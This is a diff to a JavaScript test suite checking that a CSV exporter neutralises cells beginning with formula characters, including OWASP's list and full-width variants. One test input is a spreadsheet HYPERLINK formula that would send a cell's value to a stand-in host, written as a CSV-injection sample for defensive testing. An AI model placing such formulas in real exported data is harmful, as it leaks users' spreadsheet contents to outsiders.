@@ -14,7 +14,9 @@ test('CSV keeps what would break its lines in quotes', () => {
 });
 
 test('a text that begins like a formula gets an apostrophe, and a number none', () => {
-  for (const text of ['=HYPERLINK("//a.b/"&D2)', '+1+2', '-1+2', '@SUM(A1)', '\t=1', '\r=1', "'=1", "''+a"]) {
+  // Those of OWASP's page on CSV injection; the last four are of East Asian keyboards.
+  const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
+  for (const text of ['=HYPERLINK("//a.b/"&D2)', "'=1", "''+a", ...starts.map((start) => `${start}1+2`)]) {
     const [, row] = [csvText(['a'], [[text]]).slice(0, 2), csvText(['a'], [[text]]).slice(2, -1)];
     assert.match(row, /^"?'/, text);
   }
